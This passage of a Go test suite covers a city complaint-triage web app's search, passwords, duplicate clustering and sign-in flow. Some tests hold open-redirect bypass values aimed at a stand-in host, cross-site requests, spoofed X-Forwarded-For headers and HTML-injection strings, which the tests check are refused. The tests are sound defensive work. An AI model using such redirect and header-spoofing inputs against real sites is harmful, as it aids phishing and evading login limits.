	for i := range searchLimit + 1 {
		created := f.now.Add(-time.Duration(3*60+i) * time.Minute)
		if _, err := f.st.Ingest(context.Background(), store.Ingest{
			Post: tanggap.Post{Platform: tanggap.PlatformX, ID: strconv.Itoa(5000 + i), Text: "genangan di jalan", Author: "warga", Account: "humasbekasikota",
				CreatedAt: created, CapturedAt: created, ThreadID: strconv.Itoa(5000 + i)},
			Kind: tanggap.KindComplaint, OPD: "lingkungan_hidup", Status: tanggap.StatusAssigned, Queued: true,
		}); err != nil {
			t.Fatal(err)
		}
	}
	seen := map[string]bool{}
	next := "/cari?q=genangan&dari=2026-03-17&sampai=2026-03-17" // the rest keeps the days
	for page := 1; next != ""; page++ {
		code, body := get(t, dlh, f.srv.URL+next)
		if code != 200 || page > 2 {
			t.Fatalf("page %d of genangan: %d", page, code)
		}
		for _, m := range regexp.MustCompile(`data-id="(x:\d+)"`).FindAllStringSubmatch(body, -1) {
			if seen[m[1]] {
				t.Errorf("page %d repeats %s", page, m[1])
			}
			seen[m[1]] = true
		}
		want := []string{"Hanya 100 hasil pertama yang ditampilkan.", `&amp;sampai=2026-03-17" rel="next"`}
		if page == 2 {
			want = []string{"Ditemukan 1 di antara 1 aduan", "Tidak ada aduan yang lebih lama."}
		}
		hasAll(t, fmt.Sprintf("genangan page %d", page), body, want, nil)
		next = ""
		if m := regexp.MustCompile(`href="(/cari\?[^"]+)" rel="next"`).FindStringSubmatch(body); m != nil {
			next = html.UnescapeString(m[1])
		}
	}
	if len(seen) != searchLimit+1 {
		t.Errorf("the pages listed %d of %d matches", len(seen), searchLimit+1)
	}
}

// A person changes their own password on their account page: the current
// one is required, the two new ones must agree, and the change ends every
// other session of the account while this browser stays signed in.
func TestChangePassword(t *testing.T) {
	f := newFixture(t)
	c, other := f.client(t, "dlh"), f.client(t, "dlh")
	code, body := get(t, c, f.srv.URL+"/akun")
	for _, w := range []string{"Akun saya", "Admin OPD", "Dinas Lingkungan Hidup", `name="current"`, `autocomplete="new-password"`} {
		if code != 200 || !strings.Contains(body, w) {
			t.Errorf("account page: %d, lacks %q", code, w)
		}
	}
	if code, body := get(t, f.client(t, "ops"), f.srv.URL+"/akun?lang=en"); code != 200 || !strings.Contains(body, "System operator") {
		t.Errorf("the operator's account page: %d", code)
	}
	const next = "kata-sandi-baru-22"
	for _, tc := range []struct {
		form url.Values
		code int
		want string
	}{
		{url.Values{"current": {pw}, "new": {next}, "confirm": {next + "x"}}, 400, "kedua isian kata sandi baru tidak sama"},
		{url.Values{"current": {"salah-sekali-9"}, "new": {next}, "confirm": {next}}, 400, "kata sandi sekarang salah"},
		{url.Values{"current": {pw}, "new": {"pendek"}, "confirm": {"pendek"}}, 400, "kata sandi harus 10 sampai 72 byte"},
		{url.Values{"current": {pw}, "new": {pw}, "confirm": {pw}}, 400, "kata sandi baru harus berbeda dari yang sekarang"},
	} {
		if code, body := post(t, c, f.srv.URL+"/akun", tc.form); code != tc.code || !strings.Contains(body, tc.want) {
			t.Errorf("%v: %d, want %d with %q", tc.form, code, tc.code, tc.want)
		}
	}
	// A form from another site is refused before anything is checked.
	req, _ := http.NewRequest("POST", f.srv.URL+"/akun", strings.NewReader(url.Values{"current": {pw}, "new": {next}, "confirm": {next}}.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("Sec-Fetch-Site", "cross-site")
	if code, _ := send(t, c, req); code != http.StatusForbidden {
		t.Errorf("cross-site password change: %d", code)
	}
	if code, _ := get(t, other, f.srv.URL+"/antrian/lingkungan_hidup"); code != 200 {
		t.Fatalf("the other session before the change: %d", code)
	}
	u, _ := url.Parse(f.srv.URL)
	oldToken := c.Jar.Cookies(u)[0].Value
	if code, _ := post(t, c, f.srv.URL+"/akun", url.Values{"current": {pw}, "new": {next}, "confirm": {next}}); code != http.StatusSeeOther {
		t.Fatalf("password change: %d", code)
	}
	// This browser's old session is gone, not merely outdated.
	if _, err := f.st.SessionUser(context.Background(), oldToken); err == nil || !strings.Contains(err.Error(), "session expired") {
		t.Errorf("the old session of this browser: %v", err)
	}
	if code, body := get(t, c, f.srv.URL+"/akun?ok=1"); code != 200 || !strings.Contains(body, "Kata sandi diganti") {
		t.Errorf("after the change this browser: %d", code)
	}
	if code, _ := get(t, other, f.srv.URL+"/antrian/lingkungan_hidup"); code != http.StatusSeeOther {
		t.Errorf("the other session after the change: %d, want a redirect to sign in", code)
	}
	if _, err := f.st.CheckPassword(context.Background(), "dlh", next, "127.0.0.9"); err != nil {
		t.Errorf("the new password: %v", err)
	}
}

// The item page shows what the item cannot be understood without: the
// post it replies to, the first report of its cluster, the item it
// duplicates; another OPD's item only when it is an official account's
// public post, and then without a link to its page.
func TestItemContext(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	put := func(in store.Ingest) {
		t.Helper()
		p := &in.Post
		p.Platform, p.Account, p.CapturedAt, p.URL = tanggap.PlatformX, "humasbekasikota", p.CreatedAt, "https://x.com/w/status/"+p.ID
		if p.ThreadID == "" {
			p.ThreadID = p.ID
		}
		if _, err := f.st.Ingest(ctx, in); err != nil {
			t.Fatal(err)
		}
	}
	t0 := f.now.Add(-2 * time.Hour)
	put(store.Ingest{Post: tanggap.Post{ID: "900", Text: "Pengumuman: pengerukan kali dimulai Senin", Author: "humasbekasikota", CreatedAt: t0},
		Kind: tanggap.KindOfficial, Status: tanggap.StatusNotComplaint, ReplyBy: "city"})
	put(store.Ingest{Post: tanggap.Post{ID: "901", ParentID: "900", ThreadID: "900", Text: "kapan sampai kali kami?", Author: "warga9", CreatedAt: t0.Add(time.Hour)},
		Kind: tanggap.KindComplaint, OPD: "lingkungan_hidup", Status: tanggap.StatusAssigned, Queued: true, ClusterID: "x:101"})
	put(store.Ingest{Post: tanggap.Post{ID: "902", ParentID: "201", ThreadID: "201", Text: "sama, di sini juga", Author: "warga8", CreatedAt: t0.Add(time.Hour)},
		Kind: tanggap.KindComplaint, OPD: "lingkungan_hidup", Status: tanggap.StatusAssigned, Queued: true})
	dlh := f.client(t, "dlh")
	_, body := get(t, dlh, f.srv.URL+"/item/x:901")
	hasAll(t, "x:901", body, []string{"Membalas", "Pengumuman: pengerukan kali dimulai Senin", `href="https://x.com/w/status/900"`,
		"Laporan serupa yang pertama diterima", `href="/item/x:101"`}, []string{`href="/item/x:900"`})
	// x:902 replies to DBMSDA's x:201: DLH learns nothing of it.
	_, body = get(t, dlh, f.srv.URL+"/item/x:902")
	hasAll(t, "x:902", body, nil, []string{"Membalas", "jalan berlubang", "x:201"})
	// The PPID Utama opens everything.
	_, body = get(t, f.client(t, "humas"), f.srv.URL+"/item/x:902?lang=en")
	hasAll(t, "x:902 for humas", body, []string{"Replies to", "jalan berlubang di jl ahmad yani", `href="/item/x:201"`}, nil)
}

// placed returns a function that stores a DLH complaint of a place (a
// kelurahan) with its text's fingerprint by the city's classifier, as
// triage does, joined to cluster when not "".
func (f *fixture) placed(t *testing.T, opd string) func(id, place, cluster, text string, age time.Duration) {
	t.Helper()
	cls, err := classify.Default(f.cfg)
	if err != nil {
		t.Fatal(err)
	}
	clocks, err := workflow.NewClocks(f.cfg, "")
	if err != nil {
		t.Fatal(err)
	}
	return func(id, place, cluster, text string, age time.Duration) {
		t.Helper()
		created := f.now.Add(-age)
		_, err := f.st.Ingest(context.Background(), store.Ingest{Post: tanggap.Post{Platform: tanggap.PlatformX, ID: id, Text: text, Author: "w" + id,
			Account: "humasbekasikota", CreatedAt: created, CapturedAt: created, ThreadID: id, URL: "https://x.com/w/status/" + id},
			Kind: tanggap.KindComplaint, OPD: opd, Status: tanggap.StatusAssigned, Queued: true, Kelurahan: place, ClusterID: cluster,
			Fingerprint: cls.Fingerprint(text).String(), Deadlines: clocks.Deadlines(created, tanggap.KindComplaint, opd, false)})
		if err != nil {
			t.Fatal(err)
		}
	}
}

// An item that may still be marked a duplicate offers the similar reports
// of its place and days that clustering did not join, most similar first,
// each with a button that marks it: not one that joined its cluster, not
// an unrelated text, not one of another place, not the item itself, and
// another OPD's only to whoever may see it.
func TestSimilarReportsOffered(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	put := f.placed(t, "lingkungan_hidup")
	clocks, err := workflow.NewClocks(f.cfg, "")
	if err != nil {
		t.Fatal(err)
	}
	// Similarities to x:930 by the classifier's fingerprints: x:931 0.19,
	// x:932 0.31, x:933 0, x:934 0.44 (joined the cluster), x:936 0.25.
	put("930", "Jatimekar", "", "sampah menumpuk di tps liar gang mawar jatimekar sudah seminggu belum diangkut, baunya sampai ke rumah", 5*time.Hour)
	put("931", "Jatimekar", "", "tps liar gang mawar penuh, petugas tidak datang seminggu", 3*time.Hour)
	put("932", "Jatimekar", "", "sampah di tps liar gang mawar sudah menumpuk seminggu, bau sampai rumah warga <b>tolong</b>", 2*time.Hour)
	put("933", "Jatimekar", "", "lampu penerangan jalan di depan masjid mati sejak kemarin malam", 4*time.Hour)
	put("934", "Jatimekar", "x:930", "tps liar di gang mawar jatimekar penuh sampah, seminggu belum diangkut petugas", 4*time.Hour)
	put("935", "Jatirasa", "", "sampah menumpuk di tps liar gang mawar sudah seminggu belum diangkut, baunya sampai ke rumah", time.Hour)
	put("936", "Jatimekar", "", "gang mawar jatimekar: tumpukan sampah tps liar belum diangkut dari minggu lalu", time.Hour)
	// Routed to DBMSDA when it came (the same text as x:936: 0.25).
	f.placed(t, "bina_marga_sda")("937", "Jatimekar", "", "gang mawar jatimekar: tumpukan sampah tps liar belum diangkut dari minggu lalu", 30*time.Minute)
	wf := workflow.New(f.st, f.cfg, clocks, nil)
	if _, err := wf.Do(ctx, workflow.Actor{Login: "humas", Citywide: true}, workflow.Request{ID: "x:936", Version: 1, Action: "assign",
		OPD: "bina_marga_sda", Reason: "saluran tertutup sampah"}); err != nil {
		t.Fatal(err)
	}

	page := func(c *http.Client) string {
		t.Helper()
		_, body := get(t, c, f.srv.URL+"/item/x:930")
		return body
	}
	body := page(f.client(t, "dlh"))
	hasAll(t, "DLH's page of x:930", body, []string{"Mungkin laporan yang sama", `href="/item/x:931"`, `href="/item/x:932"`,
		`<input type="hidden" name="of" value="x:932">`, "Duplikat dari ini", "&lt;b&gt;tolong", "31%", "19%"},
		[]string{`name="of" value="x:933"`, `name="of" value="x:934"`, "x:935", "x:936", "x:937", `name="of" value="x:930"`, "<b>tolong"})
	if i, j := strings.Index(body, `name="of" value="x:932"`), strings.Index(body, `name="of" value="x:931"`); i < 0 || j < 0 || i > j {
		t.Error("the more similar report (x:932) is not offered first")
	}
	// The PPID Utama, who may mark a duplicate of any OPD's report, is
	// offered the one moved to DBMSDA and the one routed there from the
	// start too.
	hasAll(t, "the PPID Utama's page of x:930", page(f.client(t, "humas")), []string{`name="of" value="x:936"`, `name="of" value="x:937"`, `name="of" value="x:932"`}, nil)
	// One button marks the item a duplicate; a duplicate offers nothing more.
	dc := f.client(t, "dlh")
	it, err := f.st.Item(ctx, "x:930")
	if err != nil {
		t.Fatal(err)
	}
	if code, _ := post(t, dc, f.srv.URL+"/item/x:930/duplicate", url.Values{"version": {strconv.FormatInt(it.Version, 10)}, "of": {"x:932"}}); code != http.StatusSeeOther {
		t.Fatalf("duplicate: %d", code)
	}
	if it, _ := f.st.Item(ctx, "x:930"); it.Status != tanggap.StatusDuplicate || it.DuplicateOf != "x:932" {
		t.Fatalf("after the button: %s of %q", it.Status, it.DuplicateOf)
	}
	hasAll(t, "the duplicate's page", page(dc), nil, []string{"Mungkin laporan yang sama"})
}

// The first report of a near-duplicate cluster lists the reports that
// joined it, oldest first, those of another OPD counted but not shown;
// reports that joined before the list was kept are counted as missing.
func TestClusterMembersOnFirstReport(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	clocks, err := workflow.NewClocks(f.cfg, "")
	if err != nil {
		t.Fatal(err)
	}
	join := func(id, opd, author, text string, age time.Duration) {
		t.Helper()
		created := f.now.Add(-age)
		_, err := f.st.Ingest(ctx, store.Ingest{Post: tanggap.Post{Platform: tanggap.PlatformX, ID: id, Text: text, Author: author, Account: "humasbekasikota",
			CreatedAt: created, CapturedAt: created, ThreadID: id, URL: "https://x.com/w/status/" + id},
			Kind: tanggap.KindComplaint, OPD: opd, Status: tanggap.StatusAssigned, Queued: true, ClusterID: "x:101",
			Deadlines: clocks.Deadlines(created, tanggap.KindComplaint, opd, false)})
		if err != nil {
			t.Fatal(err)
		}
	}
	join("911", "lingkungan_hidup", "warga11", "sampah numpuk juga di gang <i>mawar</i>", 2*time.Hour)
	join("912", "lingkungan_hidup", "warga12", "sampah sudah 3 hari", 5*time.Hour)
	join("913", "bina_marga_sda", "warga13", "sampah menutup saluran jalan", 3*time.Hour)
	_, body := get(t, f.client(t, "dlh"), f.srv.URL+"/item/x:101")
	hasAll(t, "the first report for DLH", body, []string{"Laporan serupa yang bergabung (2)", "1 laporan lain di kelompok ini berada di OPD lain.",
		`href="/item/x:912"`, `href="/item/x:911"`, "gang &lt;i&gt;mawar&lt;/i&gt;"}, []string{"x:913", "menutup saluran", "<i>mawar"})
	if i, j := strings.Index(body, `href="/item/x:912"`), strings.Index(body, `href="/item/x:911"`); i > j {
		t.Error("the reports are not listed oldest first")
	}
	_, body = get(t, f.client(t, "humas"), f.srv.URL+"/item/x:101?lang=en")
	hasAll(t, "the first report for the PPID Utama", body, []string{"Similar reports that joined (3)", `href="/item/x:913"`}, []string{"another OPD"})
	// The queue marks the first report with its reporters and each joiner
	// with the report it joined.
	_, body = get(t, f.client(t, "dlh"), f.srv.URL+"/antrian/lingkungan_hidup")
	hasAll(t, "the queue with a cluster", body, []string{`<a class="pill cluster" href="/item/x:101">4 pelapor</a>`,
		`<a href="/item/x:101">bagian dari kelompok laporan serupa</a>`}, nil)
	// A report that joined before the list was kept.
	if err := f.rdb.ZRem(ctx, "tanggap:{test}:cluster_members", "x:101 x:911").Err(); err != nil {
		t.Fatal(err)
	}
	_, body = get(t, f.client(t, "dlh"), f.srv.URL+"/item/x:101")
	hasAll(t, "the first report with an unlisted member", body, []string{"Laporan serupa yang bergabung (1)", "Setidaknya 1 laporan yang bergabung tidak tercantum: bergabung sebelum daftar ini dicatat"}, []string{`href="/item/x:911"`})
	// A citizen who reports again is listed with the new report but is
	// still one reporter.
	join("914", "lingkungan_hidup", "warga12", "sampah masih numpuk", time.Hour)
	_, body = get(t, f.client(t, "dlh"), f.srv.URL+"/antrian/lingkungan_hidup")
	hasAll(t, "the queue after a citizen reported again", body, []string{`<a class="pill cluster" href="/item/x:101">4 pelapor</a>`}, nil)
	_, body = get(t, f.client(t, "dlh"), f.srv.URL+"/item/x:101")
	hasAll(t, "the first report after a citizen reported again", body, []string{"Laporan serupa yang bergabung (2)", `href="/item/x:914"`, "Jumlah pelapor</dt><dd>4</dd>"}, nil)
	// A joiner's page lists none (it links its first report).
	_, body = get(t, f.client(t, "dlh"), f.srv.URL+"/item/x:912")
	hasAll(t, "a joiner", body, []string{`href="/item/x:101"`}, []string{"Laporan serupa yang bergabung"})

	// The list takes bulk actions, in the first report's queue, and comes
	// back to the page; a back link off this site goes to the queue.
	dlh := f.client(t, "dlh")
	_, body = get(t, dlh, f.srv.URL+"/item/x:101")
	hasAll(t, "the cluster's bulk form", body, []string{`action="/antrian/lingkungan_hidup/massal"`, `name="back" value="/item/x:101"`,
		`name="id" value="x:101"`, `name="id" value="x:912"`}, nil)
	claim := url.Values{"action": {"claim"}, "id": {"x:101", "x:912"}, "back": {"/item/x:101"}}
	res, err := dlh.Do(formPost(f.srv.URL+"/antrian/lingkungan_hidup/massal", claim))
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if loc := res.Header.Get("Location"); res.StatusCode != http.StatusSeeOther || loc != "/item/x:101?ok=bulk" {
		t.Errorf("bulk from the cluster: %d to %q", res.StatusCode, loc)
	}
	for _, id := range []string{"x:101", "x:912"} {
		if it, _ := f.st.Item(ctx, id); it.ClaimedBy != "dlh" {
			t.Errorf("%s not claimed by the cluster's bulk action: %q", id, it.ClaimedBy)
		}
	}
	for _, back := range []string{"//evil.example/item/x", `/\evil.example`, "https://evil.example/item/x", "/item/x:101\\evil"} {
		v := url.Values{"action": {"claim"}, "id": {"x:102"}, "back": {back}}
		res, err := dlh.Do(formPost(f.srv.URL+"/antrian/lingkungan_hidup/massal", v))
		if err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
		if loc := res.Header.Get("Location"); loc != "/antrian/lingkungan_hidup?ok=bulk" {
			t.Errorf("back %q: redirected to %q", back, loc)
		}
	}
}

// formPost is a same-origin form POST request.
func formPost(u string, v url.Values) *http.Request {
	req, _ := http.NewRequest("POST", u, strings.NewReader(v.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("Sec-Fetch-Site", "same-origin")
	return req
}

// An item on hold says for how long it has waited for its citizen, on the
// queue and on its page, instead of a deadline state (its clocks pause).
func TestHeldItemShowsWait(t *testing.T) {
	f := newFixture(t)
	c := f.client(t, "dlh")
	it, _ := f.st.Item(context.Background(), "x:102")
	if code, body := post(t, c, f.srv.URL+"/item/x:102/hold", url.Values{"reason": {"mohon kirim foto"}, "version": {strconv.FormatInt(it.Version, 10)}}); code != http.StatusSeeOther {
		t.Fatalf("hold: %d %s", code, body)
	}
	_, body := get(t, c, f.srv.URL+"/antrian/lingkungan_hidup")
	held := body[strings.Index(body, `id="held"`):]
	hasAll(t, "held section", held, []string{`data-id="x:102"`, "menunggu warga selama 0 menit"}, []string{"Sesuai jadwal"})
	_, body = get(t, c, f.srv.URL+"/item/x:102?lang=en")
	hasAll(t, "held item page", body, []string{"<dt>On hold</dt><dd>waiting for the citizen for 0 minutes</dd>"}, nil)

	// A city that closes holds after 10 working days says when.
	f.cfg.Clocks.HoldExpireHK = 10
	clocks, err := workflow.NewClocks(f.cfg, "")
	if err != nil {
		t.Fatal(err)
	}
	end := clocks.HoldExpiry(f.now).In(f.cfg.Location()).Format("02/01/2006 15:04")
	_, body = get(t, c, f.srv.URL+"/item/x:102?lang=id")
	hasAll(t, "held item page with an expiry", body, []string{"menunggu warga selama 0 menit · ditutup otomatis bila warga belum menjawab pada " + end}, nil)
	_, body = get(t, c, f.srv.URL+"/antrian/lingkungan_hidup")
	hasAll(t, "held queue row with an expiry", body, []string{"ditutup otomatis bila warga belum menjawab pada " + end}, nil)
}

// The operator signs in on the form like everyone, whose default next is
// "/": that lands on account administration, their page, not on a
// refusal of the home page's citizen data.
func TestOperatorSignsInToAccounts(t *testing.T) {
	f := newFixture(t)
	jar, _ := cookiejar.New(nil)
	browser := &http.Client{Jar: jar} // follows redirects
	res, err := browser.Do(formPost(f.srv.URL+"/masuk", url.Values{"login": {"ops"}, "password": {pw}}))
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(res.Body)
	res.Body.Close()
	if res.StatusCode != 200 || res.Request.URL.Path != "/pengguna" {
		t.Fatalf("operator after sign-in: %d at %s: %.300s", res.StatusCode, res.Request.URL, b)
	}
}

// A form sent after the session ended asks to sign in first, and then
// returns to the page the form was on (the same-site Referer) or to the
// item, never to the form's POST-only action, which a browser would GET
// into a 405.
func TestSignInAfterExpiredForm(t *testing.T) {
	f := newFixture(t)
	c := f.client(t, "") // the session has ended
	for _, tc := range []struct{ path, referer, next string }{
		{"/item/x:102/answer", "", "/item/x:102"},
		{"/item/x:102/answer", f.srv.URL + "/antrian/lingkungan_hidup?hal=2", "/antrian/lingkungan_hidup?hal=2"},
		{"/item/x:102/answer", "https://evil.example/antrian/x", "/item/x:102"},
		{"/item/x:102/answer", f.srv.URL + "/masuk?next=/", "/item/x:102"},
		{"/antrian/lingkungan_hidup/massal", "", "/antrian/lingkungan_hidup"},
		{"/akun", "", "/"},
	} {
		req := formPost(f.srv.URL+tc.path, url.Values{"version": {"1"}})
		if tc.referer != "" {
			req.Header.Set("Referer", tc.referer)
		}
		res, err := c.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
		loc, _ := url.Parse(res.Header.Get("Location"))
		if res.StatusCode != http.StatusSeeOther || loc.Path != "/masuk" || loc.Query().Get("next") != tc.next {
			t.Errorf("POST %s (Referer %q): %d to %s, want /masuk with next %s", tc.path, tc.referer, res.StatusCode, loc, tc.next)
		}
	}
	// Signing in there opens the item.
	jar, _ := cookiejar.New(nil)
	browser := &http.Client{Jar: jar}
	res, err := browser.Do(formPost(f.srv.URL+"/masuk", url.Values{"login": {"dlh"}, "password": {pw}, "next": {"/item/x:102"}}))
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if res.StatusCode != 200 || res.Request.URL.Path != "/item/x:102" {
		t.Errorf("after signing in: %d at %s", res.StatusCode, res.Request.URL)
	}
	// A page asked for is still where signing in returns.
	res, err = c.Get(f.srv.URL + "/item/x:102?lang=en")
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if loc := res.Header.Get("Location"); loc != "/masuk?next=/item/x:102%3Flang=en" {
		t.Errorf("GET while signed out: to %s", loc)
	}
}

func TestLoginRateLimited(t *testing.T) {
	f := newFixture(t)
	c := f.client(t, "")
	for i := 0; i < store.LoginLimit; i++ {
		res, _ := c.PostForm(f.srv.URL+"/masuk", url.Values{"login": {"dlh"}, "password": {"salah"}})
		res.Body.Close()
		if res.StatusCode != http.StatusUnauthorized {
			t.Fatalf("attempt %d: %d", i, res.StatusCode)
		}
	}
	res, _ := c.PostForm(f.srv.URL+"/masuk", url.Values{"login": {"dlh"}, "password": {pw}})
	res.Body.Close()
	if res.StatusCode != http.StatusTooManyRequests {
		t.Fatalf("after limit: %d", res.StatusCode)
	}
}

// TestClientAddr: sign-in limits count against the peer, or behind a
// trusted proxy the nearest untrusted hop the proxies appended.
func TestClientAddr(t *testing.T) {
	trusted := []netip.Prefix{netip.MustParsePrefix("10.0.0.0/8"), netip.MustParsePrefix("127.0.0.1/32")}
	for _, tc := range []struct {
		remote, xff string
		want        string
	}{
		{"203.0.113.5:4000", "", "203.0.113.5"},
		{"203.0.113.5:4000", "198.51.100.7", "203.0.113.5"}, // not a proxy: its header is the client's own
		{"127.0.0.1:4000", "", "127.0.0.1"},
		{"127.0.0.1:4000", "198.51.100.7", "198.51.100.7"},
		{"127.0.0.1:4000", "1.2.3.4, 198.51.100.7", "198.51.100.7"},  // the client wrote 1.2.3.4
		{"127.0.0.1:4000", "198.51.100.7, 10.1.2.3", "198.51.100.7"}, // two proxies
		{"[::ffff:127.0.0.1]:4000", "2001:db8::1", "2001:db8::1"},
		{"127.0.0.1:4000", "unknown", "127.0.0.1"},
	} {
		r := httptest.NewRequest("POST", "/masuk", nil)
		r.RemoteAddr = tc.remote
		if tc.xff != "" {
			r.Header.Set("X-Forwarded-For", tc.xff)
		}
		if got := clientAddr(r, trusted); got != tc.want {
			t.Errorf("%s with X-Forwarded-For %q: %s, want %s", tc.remote, tc.xff, got, tc.want)
		}
		if host, _, _ := net.SplitHostPort(tc.remote); clientAddr(r, nil) != host {
			t.Errorf("%s with no proxy trusted: %s", tc.remote, clientAddr(r, nil))
		}
	}
}

// Every message key the templates use has a translation (a missing key
// would show its raw name on the page).
func TestTemplateKeysTranslated(t *testing.T) {
	re := regexp.MustCompile(`call \$?\.T "([a-z_]+)"`)
	files, _ := templateFS.ReadDir("templates")
	for _, f := range files {
		b, _ := templateFS.ReadFile("templates/" + f.Name())
		for _, m := range re.FindAllStringSubmatch(string(b), -1) {
			if _, ok := messages[m[1]]; !ok {
				if _, ok := reportMessages[m[1]]; !ok {
					t.Errorf("%s: message %q has no translation", f.Name(), m[1])
				}
			}
		}
	}
	// Keys looked up from Go code.
	goKey := regexp.MustCompile(`s\.t\(r, "([a-z_]+)"\)`)
	for _, name := range []string{"pages.go", "render.go"} {
		b, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		for _, m := range goKey.FindAllStringSubmatch(string(b), -1) {
			if _, ok := messages[m[1]]; !ok {
				t.Errorf("%s: message %q has no translation", name, m[1])
			}
		}
	}
	for _, c := range []tanggap.Clock{tanggap.ClockFirstResponse, tanggap.ClockRouting, tanggap.ClockFollowup, tanggap.ClockResolution} {
		if _, ok := messages["clock_"+string(c)]; !ok {
			t.Errorf("clock %s has no label", c)
		}
	}
	for _, st := range []string{"on_track", "due_soon", "overdue"} {
		if _, ok := messages[st]; !ok {
			t.Errorf("deadline state %s has no label", st)
		}
	}
	// Every action the history can hold: people's (workflow) and those
	// the store writes itself (the scripts, the plain path's ingest).
	actions := slices.Clone(workflow.Actions)
	written := regexp.MustCompile(`action = '([a-z_]+)'|"action", "([a-z_]+)"`)
	srcs, _ := filepath.Glob("../store/lua/*.lua")
	gos, _ := filepath.Glob("../store/*.go")
	for _, name := range append(srcs, gos...) {
		if strings.HasSuffix(name, "_test.go") {
			continue
		}
		b, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		for _, m := range written.FindAllStringSubmatch(string(b), -1) {
			actions = append(actions, m[1]+m[2])
		}
	}
	if !slices.Contains(actions, "ingest") || !slices.Contains(actions, "cluster") {
		t.Fatalf("the store's own actions were not found: %v", actions)
	}
	for _, a := range actions {
		if _, ok := messages["ev_"+a]; !ok {
			t.Errorf("history action %q has no label", a)
		}
	}
	// Account administration: the record's actions, the pages' notices,
	// the roles.
	for _, k := range []string{"uc_add", "uc_edit", "uc_reset", "uc_disable", "uc_enable", "uc_password",
		"ok_user_added", "ok_user_edit", "ok_user_reset", "ok_user_disable", "ok_user_enable"} {
		if _, ok := messages[k]; !ok {
			t.Errorf("account message %q has no translation", k)
		}
	}
	for _, r := range Roles {
		if _, ok := messages["role_"+string(r)]; !ok {
			t.Errorf("role %q has no label", r)
		}
	}
	for _, code := range workflow.ArchiveReasons {
		if _, ok := messages["reason_"+code]; !ok {
			t.Errorf("archive reason %q has no label", code)
		}
	}
}

// The classifier's explaining features are stored in Indonesian; the
// English page puts their prefixes into English and leaves the citizen's
// words as they are.
func TestFeatureLabel(t *testing.T) {
	for _, tc := range []struct{ in, en string }{
		{"akun: @dlh_kotabekasi", "account: @dlh_kotabekasi"},
		{"kata kunci lingkungan_hidup: truk sampah", "keyword lingkungan_hidup: truk sampah"},
		{"kata: sampah", "word: sampah"},
		{"frasa: jalan rusak", "phrase: jalan rusak"},
		{"aturan: spam (slot)", "rule: spam (slot)"},
		{"aturan: PJU milik bina_marga_sda", "rule: street lights owned by bina_marga_sda"},
		{"darurat: banjir", "urgent: banjir"}, // triage's keywords: the citizen's word
		{"darurat: ancaman jiwa atau kesehatan: bahaya", "urgent: threat to life or health: bahaya"},
		{"darurat: pohon tumbang: menimpa", "urgent: fallen tree: menimpa"},
		{"bukan wewenang kota: PLN (listrik padam)", "outside the city's remit: PLN (listrik padam)"},
		{"saran: perhubungan", "suggested: perhubungan"},
		{"sesuatu yang lain", "sesuatu yang lain"},
		{"", ""},
	} {
		if got := featureLabel(tc.in, "en"); got != tc.en {
			t.Errorf("featureLabel(%q, en) = %q, want %q", tc.in, got, tc.en)
		}
		if got := featureLabel(tc.in, "id"); got != tc.in {
			t.Errorf("featureLabel(%q, id) = %q", tc.in, got)
		}
	}
	// Every category of urgency the classifier gives has its English.
	for _, r := range classify.UrgentReasons() {
		in := "darurat: " + r + ": frasa"
		if got := featureLabel(in, "en"); !strings.HasPrefix(got, "urgent: ") || strings.Contains(got, r) || !strings.HasSuffix(got, ": frasa") {
			t.Errorf("featureLabel(%q, en) = %q: the category stays Indonesian", in, got)
		}
	}
}

// The sign-in page speaks both languages, its title too.
// TestCoverageBanner: an account that is not polled is "not seen"; one
// polled but only in part (a YouTube channel with more threads than its
// quota share rechecks) says so instead.
func TestCoverageBanner(t *testing.T) {
	f := newFixture(t)
	f.gaps.Store(&[]Gap{
		{Platform: tanggap.PlatformX, Account: "humasbekasikota", Since: f.now.Add(-time.Hour), Reason: "api_error"},
		{Platform: tanggap.PlatformYouTube, Account: "MasTriAdhianto", Since: f.now.Add(-2 * time.Hour), Reason: "partial"},
	})
	c := f.client(t, "humas")
	for _, tc := range []struct {
		query string
		want  []string
	}{
		{"", []string{"@humasbekasikota belum terpantau", "@MasTriAdhianto hanya terpantau sebagian selama", "kuota API tidak cukup"}},
		{"?lang=en", []string{"@humasbekasikota not seen for", "@MasTriAdhianto only partly seen for", "API quota too small"}},
	} {
		code, body := get(t, c, f.srv.URL+"/"+tc.query)
		if code != http.StatusOK {
			t.Fatalf("/%s: %d", tc.query, code)
		}
		for _, w := range tc.want {
			if !strings.Contains(body, w) {
				t.Errorf("/%s lacks %q", tc.query, w)
			}
		}
	}
}

func TestLoginPageLanguages(t *testing.T) {
	f := newFixture(t)
	for _, tc := range []struct {
		query string
		want  []string
	}{
		{"", []string{"<title>Masuk", "<h1>Masuk</h1>", "Nama pengguna", "Kata sandi"}},
		{"?lang=en", []string{"<title>Sign in", "<h1>Sign in</h1>", "Username", "Password"}},
	} {
		code, body := get(t, http.DefaultClient, f.srv.URL+"/masuk"+tc.query)
		if code != http.StatusOK {
			t.Fatalf("/masuk%s: %d", tc.query, code)
		}
		for _, w := range tc.want {
			if !strings.Contains(body, w) {
				t.Errorf("/masuk%s lacks %q", tc.query, w)
			}
		}
	}
}

// The messages of refused sign-ins and actions speak the page's language,
// statuses by their labels; the JSON API keeps English.
func TestErrorsInPageLanguage(t *testing.T) {
	f := newFixture(t)
	for _, tc := range []struct{ query, want string }{
		{"", "nama pengguna atau kata sandi salah"},
		{"?lang=en", "wrong login or password"},
	} {
		code, body := post(t, http.DefaultClient, f.srv.URL+"/masuk"+tc.query, url.Values{"login": {"dlh"}, "password": {"salah-sekali"}})
		if code != http.StatusUnauthorized || !strings.Contains(body, tc.want) {
			t.Errorf("refused sign-in%s: %d, lacks %q", tc.query, code, tc.want)
		}
	}
